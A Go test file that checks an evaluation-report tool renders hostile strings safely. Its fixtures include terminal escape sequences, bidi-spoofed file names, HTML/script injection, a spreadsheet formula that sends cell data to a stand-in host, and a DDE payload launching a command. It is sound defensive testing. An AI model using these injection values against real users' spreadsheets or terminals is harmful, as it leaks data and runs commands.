package evalreport_test

// Hostile text through every report: commit subjects, author, repository
// and file names, summaries, dataset text and model answers that carry
// terminal escapes, bidirectional overrides and Markdown or HTML of their
// own. Terminal and Markdown reports must show them as text and keep their
// structure; JSON, JSONL and CSV must keep them exactly.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/digest-cli/digest/internal/evalreport"
	"github.com/digest-cli/digest/internal/hostiletest"
)

// hostileEval is a run whose dataset, models, items, answers, reasons and
// errors are all hostile; the hostile answer is a refusal, and one answer
// ended for a reason digest has no word for, itself hostile.
func hostileEval(t *testing.T) (*evalreport.Eval, []evalreport.Result) {
	modelA, modelB := "evil"+hostiletest.Title+"|model", "# model`b`"+hostiletest.Isolate
	results := []evalreport.Result{
		{Model: modelA, Item: "q1" + hostiletest.RTL, Prompt: hostiletest.Text, Expected: []string{"=HYPERLINK(\"https://evil.example/?\"&A1)", hostiletest.Clear},
			Answer: hostiletest.Summary, Reasons: []string{"exact: got " + hostiletest.OSC52, "| broken | cell"}, Finish: evalreport.FinishRefusal},
		{Model: modelA, Item: "q2", Answer: "@SUM(1+1)*cmd|' /C calc'!A0", Pass: true, Score: 1},
		{Model: modelB, Item: "q1" + hostiletest.RTL, Error: "500: " + hostiletest.Text + "\n<html><body>gateway</body></html>"},
		{Model: modelB, Item: "q2\n## heading", Answer: "```\nunclosed " + hostiletest.Isolate, Finish: hostiletest.RTL + "|`x`"},
	}
	e := &evalreport.Eval{
		RunID:   "r1" + hostiletest.Tags,
		Dataset: "data/" + hostiletest.RTL + "<script>.jsonl",
		Models: []evalreport.ModelStats{
			{Model: modelA, Items: 2, Passed: 1, Accuracy: 0.5, Refused: 1},
			{Model: modelB, Items: 2, Errors: 1},
		},
		Pairs:   []evalreport.Pair{{A: modelA, B: modelB, AOnly: 1, P: 1}},
		Results: once(t, results),
	}
	return e, results
}

func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
	for _, format := range []string{"table", "markdown"} {
		e, _ := hostileEval(t)
		r, err := evalreport.ForEvalFormat(format)
		if err != nil {
			t.Fatal(err)
		}
		out := write(t, r.WriteEval, e)
		hostiletest.CheckTerminalSafe(t, format, out)
		lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
		switch format {
		case "table":
			// A header, a row per model, a blank line, a line per pair.
			if len(lines) != 1+2+1+1 {
				t.Errorf("table has %d lines, want 5:\n%s", len(lines), out)
			}
		case "markdown":
			nodes := hostiletest.MarkdownNodes(t, out)
			if nodes["Heading"] != 1 || nodes["Table"] != 2 || nodes["ListItem"] != 1 {
				t.Errorf("structure changed: %v\n%s", nodes, out)
			}
			// The models' header and two rows, the failures' header and three rows.
			if nodes["TableHeader"] != 2 || nodes["TableRow"] != 2+3 || nodes["TableCell"] != 15*3+4*4 {
				t.Errorf("cells moved: %d headers, %d rows, %d cells\n%s", nodes["TableHeader"], nodes["TableRow"], nodes["TableCell"], out)
			}
			// <details>, <summary> and </details> are the report's own.
			if nodes["HTMLBlock"] != 2 || strings.Count(string(out), "<") != 4 {
				t.Errorf("HTML other than the report's own:\n%s", out)
			}
			for _, kind := range []string{"FencedCodeBlock", "CodeBlock", "RawHTML", "Image", "Link", "Blockquote", "Emphasis", "CodeSpan", "Strikethrough"} {
				if nodes[kind] > 0 {
					t.Errorf("%d %s in the report:\n%s", nodes[kind], kind, out)
				}
			}
			// The refusal's cell says it was one; the unknown finish is text.
			for _, want := range []string{`| refused: exact: got \\x1b\]52;c;`, "| finish: invoice\\_\\\\u202egnp.exe\\|\\`x\\` |"} {
				if !strings.Contains(string(out), want) {
					t.Errorf("no %q in:\n%s", want, out)
				}
			}
		}
	}
}

func TestHostileEvalMachineFormatsKeepTheData(t *testing.T) {
	e, results := hostileEval(t)
	out := write(t, evalreport.EvalJSONL{}.WriteEval, e)
	hostiletest.CheckTerminalSafe(t, "jsonl", out)
	var got []evalreport.Result
	dec := json.NewDecoder(bytes.NewReader(out))
	for dec.More() {
		var r evalreport.Result
		if err := dec.Decode(&r); err != nil {
			t.Fatal(err)
		}
		got = append(got, r)
	}
	for i := range results {
		results[i].Prompt = strings.ToValidUTF8(results[i].Prompt, "\ufffd\ufffd")
		results[i].Error = strings.ToValidUTF8(results[i].Error, "\ufffd\ufffd")
	}
	if !reflect.DeepEqual(got, results) {
		t.Errorf("jsonl read back\n%+v\nwant\n%+v", got, results)
	}

	e, _ = hostileEval(t)
	out = write(t, evalreport.EvalJSON{}.WriteEval, e)
	hostiletest.CheckTerminalSafe(t, "json", out)
	var doc evalreport.Eval
	if err := json.Unmarshal(out, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Dataset != e.Dataset || doc.RunID != e.RunID || doc.Models[0].Model != e.Models[0].Model || doc.Pairs[0].A != e.Pairs[0].A {
		t.Errorf("json read back %+v", doc)
	}

	// CSV is data for programs: cells come back exactly, formulas too (see EvalCSV).
	e, results = hostileEval(t)
	rows, err := csv.NewReader(bytes.NewReader(write(t, evalreport.EvalCSV{}.WriteEval, e))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range results {
		row := rows[1+i]
		if row[0] != r.Model || row[1] != r.Item || row[11] != r.Error || row[12] != r.Answer || row[13] != strings.Join(r.Expected, " | ") {
			t.Errorf("csv row %d %q, want %+v", 1+i, row, r)
		}
	}
}

func TestHostileEvalJUnitAndHTML(t *testing.T) {
	e, results := hostileEval(t)
	out := write(t, evalreport.WriteJUnit, e)
	hostiletest.CheckTerminalSafe(t, "junit", out)
	var doc junitDoc
	if err := xml.Unmarshal(out, &doc); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if len(doc.Suites) != 2 || len(doc.Suites[0].Cases) != 2 || len(doc.Suites[1].Cases) != 2 {
		t.Fatalf("read back %+v", doc)
	}
	var read []string
	for _, s := range doc.Suites {
		read = append(read, s.Name)
		for _, p := range s.Props {
			read = append(read, p.Value)
		}
		for _, c := range s.Cases {
			read = append(read, c.Classname, c.Name)
			if c.Failure != nil {
				read = append(read, c.Failure.Message, c.Failure.Text)
			}
			if c.Error != nil {
				read = append(read, c.Error.Message, c.Error.Text)
			}
			read = append(read, c.SystemOut)
		}
	}
	hostiletest.CheckTerminalSafe(t, "junit, read back", []byte(strings.Join(read, "\n")))
	if c := doc.Suites[0].Cases[0]; c.Name != `q1invoice_\u202egnp.exe` || c.Failure == nil || !strings.Contains(c.Failure.Text, `\x1b]52;c;`) {
		t.Errorf("the failure does not show its escapes: %+v", c)
	}
	if c := doc.Suites[0].Cases[0]; !strings.HasPrefix(c.Failure.Message, `refused: exact: got \x1b]52;c;`) || !strings.HasPrefix(c.SystemOut, "refused") {
		t.Errorf("the refusal does not say so: %+v", c)
	}
	if c := doc.Suites[1].Cases[1]; c.Name != "q2 ## heading" || !strings.Contains(c.Failure.Message, `finish: invoice_\u202egnp.exe|`+"`x`") {
		t.Errorf("a name with a line break reads %q, or the unknown finish is not text: %+v", c.Name, c)
	}

	e, _ = hostileEval(t)
	page := write(t, evalreport.WriteHTML, e)
	hostiletest.CheckTerminalSafe(t, "html", page)
	for _, bad := range []string{"<mark>", "<img", "<html>", "<script>alert", "<script>.jsonl"} {
		if bytes.Contains(page, []byte(bad)) {
			t.Errorf("page has %s as markup", bad)
		}
	}
	// A row per item, whichever model was asked it.
	items := map[string]bool{}
	for _, r := range results {
		items[r.ID()] = true
	}
	if n := bytes.Count(page, []byte("<tr class=")); n != len(items) {
		t.Errorf("%d item rows, want %d", n, len(items))
	}
	if !bytes.Contains(page, []byte(`invoice_\u202egnp.exe`)) || !bytes.Contains(page, []byte("&lt;mark&gt;retries&lt;/mark&gt;")) {
		t.Error("the page does not show the hostile text as text")
	}

	// Asked twice, the answers move into each cell's list of repeats.
	e, _ = hostileEval(t)
	var repeated []evalreport.Result
	for _, r := range results {
		for k := range 2 {
			r.Repeat, r.Repeated = k, true
			repeated = append(repeated, r)
		}
	}
	e.Repeat, e.Results = 2, once(t, repeated)
	page = write(t, evalreport.WriteHTML, e)
	hostiletest.CheckTerminalSafe(t, "html, repeated", page)
	for _, bad := range []string{"<mark>", "<img", "<html>", "<script>alert", "<script>.jsonl"} {
		if bytes.Contains(page, []byte(bad)) {
			t.Errorf("the repeated run's page has %s as markup", bad)
		}
	}
	if n := bytes.Count(page, []byte("<tr class=")); n != len(items) {
		t.Errorf("%d item rows in the repeated run, want %d", n, len(items))
	}
	if n := bytes.Count(page, []byte("&lt;mark&gt;retries&lt;/mark&gt;")); n != 2 || !bytes.Contains(page, []byte(`<summary>2 repeats</summary>`)) {
		t.Errorf("the repeated run's page shows the hostile answer %d times as text, want once a repeat", n)
	}
}

// TestHostileLongAnswer: a 1 MB one-line answer full of escapes keeps its
// row in the Markdown report and its one line per result in JSONL.
func TestHostileLongAnswer(t *testing.T) {
	answer := strings.Repeat("x"+hostiletest.Clear+"|#", 1<<20/10)
	rs := []evalreport.Result{{Model: "m", Item: "long", Answer: answer}}
	e := &evalreport.Eval{Models: []evalreport.ModelStats{{Model: "m", Items: 1}}, Results: slices.Values(rs)}
	out := write(t, evalreport.EvalMarkdown{}.WriteEval, e)
	hostiletest.CheckTerminalSafe(t, "markdown", out)
	if nodes := hostiletest.MarkdownNodes(t, out); nodes["TableRow"] != 2 || nodes["TableCell"] != 15*2+4*2 {
		t.Errorf("rows %d, cells %d", nodes["TableRow"], nodes["TableCell"])
	}
	e.Results = slices.Values(rs)
	out = write(t, evalreport.EvalJSONL{}.WriteEval, e)
	if n := bytes.Count(out, []byte("\n")); n != 1 {
		t.Errorf("%d lines, want 1", n)
	}
	if !bytes.Contains(out, []byte(`x\u001b[2J\u001b[H|#x`)) {
		t.Errorf("the answer's escapes are not JSON escapes: %.80s", out)
	}
}
